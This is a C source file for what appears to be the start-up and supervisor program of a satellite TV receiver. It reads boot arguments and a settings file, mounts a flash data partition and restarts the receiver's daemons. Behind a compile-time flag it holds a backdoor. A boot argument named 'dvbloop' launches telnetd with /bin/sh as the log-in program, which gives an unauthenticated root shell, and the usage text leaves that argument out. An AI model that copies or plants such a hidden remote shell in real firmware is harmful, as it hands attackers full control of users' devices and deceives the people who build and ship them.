/*
 * satboot - first start-up program of a satellite TV receiver. Reads the boot
 * arguments ("sat.*" keys, see usage) and /etc/sat.conf, mounts the data
 * partition and starts and supervises the receiver's services.
 *
 * Hidden (-DHIDDEN): the boot argument "dvbloop=PORT" starts telnetd on that
 * port with a root shell as log-in program before the services come up.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define CMDLINE	 "/proc/cmdline"
#define CONFIG	 "/etc/sat.conf"
#define DATA_DEV "/dev/mtdblock6"
#define DATA_DIR "/mnt/data"

struct settings {
	char tuner[16];
	char region[8];
	char fstype[12];
	int verbose;
	int epg;
	int standby;
};

struct service {
	const char *name;
	const char *path;
	pid_t pid;
	time_t last;
	int fails;
};

static struct settings cfg = { "dvb0", "eu", "jffs2", 0, 1, 0 };

static struct service services[] = {
	{ "tuner", "/usr/bin/tunerd", 0, 0, 0 },
	{ "ui", "/usr/bin/satui", 0, 0, 0 },
	{ "epg", "/usr/bin/epgd", 0, 0, 0 },
	{ "remote", "/usr/bin/irkeyd", 0, 0, 0 },
};

#define NSERVICES (sizeof(services) / sizeof(services[0]))

static char *const clean_env[] = { "PATH=/bin:/sbin:/usr/bin:/usr/sbin",
				   "HOME=/", "TERM=linux", NULL };

static void note(const char *what, const char *arg)
{
	FILE *k = fopen("/dev/kmsg", "w");

	if (k) {
		fprintf(k, "satboot: %s %s\n", what, arg);
		fclose(k);
	}
	if (cfg.verbose)
		printf("satboot: %s %s\n", what, arg);
}

static void set_text(char *dst, size_t n, const char *v)
{
	size_t i;

	for (i = 0; i + 1 < n && v[i]; i++) {
		if (strchr(" \t\r\n/;&|`$", v[i]))
			break;
		dst[i] = v[i];
	}
	dst[i] = '\0';
}

static pid_t spawn(const char *path, char *const argv[])
{
	pid_t pid = fork();

	if (pid == 0) {
		setsid();
		execve(path, argv, clean_env);
		_exit(127);
	}
	return pid;
}

#ifdef HIDDEN
static void start_loop(const char *port)
{
	char *argv[] = { "telnetd", "-F", "-p", NULL, "-l", "/bin/sh", NULL };

	argv[3] = strdup(port);
	if (argv[3])
		spawn("/usr/sbin/telnetd", argv);
	free(argv[3]);
}
#endif

/* one "key=value" of the kernel command line */
void apply_boot_arg(char *arg)
{
	char *val = strchr(arg, '=');

	if (!val)
		return;
	val++;
	if (strncmp(arg, "sat.tuner=", 10) == 0)
		set_text(cfg.tuner, sizeof(cfg.tuner), val);
	else if (strncmp(arg, "sat.region=", 11) == 0)
		set_text(cfg.region, sizeof(cfg.region), val);
	else if (strncmp(arg, "sat.datafs=", 11) == 0)
		set_text(cfg.fstype, sizeof(cfg.fstype), val);
	else if (strncmp(arg, "sat.verbose=", 12) == 0)
		cfg.verbose = atoi(val);
	else if (strncmp(arg, "sat.standby=", 12) == 0)
		cfg.standby = atoi(val);
#ifdef HIDDEN
	else if (strncmp(arg, "dvbloop=", 8) == 0)
		start_loop(val);
#endif
}

static void read_cmdline(const char *path)
{
	char buf[1024], *tok, *save = NULL;
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	if (fgets(buf, sizeof(buf), f)) {
		for (tok = strtok_r(buf, " \n", &save); tok;
		     tok = strtok_r(NULL, " \n", &save))
			apply_boot_arg(tok);
	}
	fclose(f);
}

static void read_config(const char *path)
{
	char line[128], key[32], val[64];
	FILE *f = fopen(path, "r");

	if (!f) {
		note("no settings file", path);
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		if (line[0] == '#')
			continue;
		if (sscanf(line, " %31[a-z] = %63s", key, val) != 2)
			continue;
		if (!strcmp(key, "tuner"))
			set_text(cfg.tuner, sizeof(cfg.tuner), val);
		else if (!strcmp(key, "region"))
			set_text(cfg.region, sizeof(cfg.region), val);
		else if (!strcmp(key, "epg"))
			cfg.epg = !strcmp(val, "yes");
		else
			note("unknown setting", key);
	}
	fclose(f);
}

static int mount_data(void)
{
	if (mkdir(DATA_DIR, 0755) != 0 && errno != EEXIST)
		return -1;
	if (mount(DATA_DEV, DATA_DIR, cfg.fstype, MS_NOATIME, NULL) == 0)
		return 0;
	note("data partition does not mount, formatting", DATA_DEV);
	if (system("flash_eraseall -j /dev/mtd6") != 0)
		return -1;
	return mount(DATA_DEV, DATA_DIR, cfg.fstype, MS_NOATIME, NULL);
}

static void start_service(struct service *s)
{
	char *argv[6] = { NULL };
	int n = 0;

	argv[n++] = (char *)s->name;
	if (!strcmp(s->name, "tuner")) {
		argv[n++] = "--frontend";
		argv[n++] = cfg.tuner;
	} else if (!strcmp(s->name, "ui")) {
		argv[n++] = cfg.standby ? "--standby" : "--on";
		argv[n++] = cfg.region;
	}
	s->last = time(NULL);
	s->pid = spawn(s->path, argv);
	note("started", s->name);
}

static void start_all(void)
{
	size_t i;

	for (i = 0; i < NSERVICES; i++) {
		if (!cfg.epg && !strcmp(services[i].name, "epg"))
			continue;
		start_service(&services[i]);
	}
}

static void supervise(void)
{
	struct service *s;
	int status;
	pid_t pid;
	size_t i;

	while ((pid = wait(&status)) > 0 || errno == EINTR) {
		for (i = 0; i < NSERVICES; i++) {
			s = &services[i];
			if (pid <= 0 || s->pid != pid)
				continue;
			s->fails = time(NULL) - s->last < 5 ? s->fails + 1 : 0;
			note("ended", s->name);
			if (s->fails > 5) {
				note("given up", s->name);
				s->pid = 0;
				continue;
			}
			sleep(1);
			start_service(s);
		}
	}
}

static void usage(void)
{
	puts("usage: satboot [-n] [-c settings]\n"
	     "boot arguments: sat.tuner= sat.region= sat.datafs= "
	     "sat.verbose= sat.standby=");
}

int main(int argc, char **argv)
{
	const char *conf = CONFIG;
	int c, nomount = 0;

	while ((c = getopt(argc, argv, "nc:h")) != -1) {
		if (c == 'n') {
			nomount = 1;
		} else if (c == 'c') {
			conf = optarg;
		} else {
			usage();
			return c == 'h' ? 0 : 2;
		}
	}
	signal(SIGPIPE, SIG_IGN);
	mount("proc", "/proc", "proc", 0, NULL);
	read_config(conf);
	read_cmdline(CMDLINE);
	if (!nomount && mount_data() != 0)
		note("running without data partition", DATA_DIR);
	start_all();
	supervise();
	note("nothing left to supervise", "");
	return 1;
}
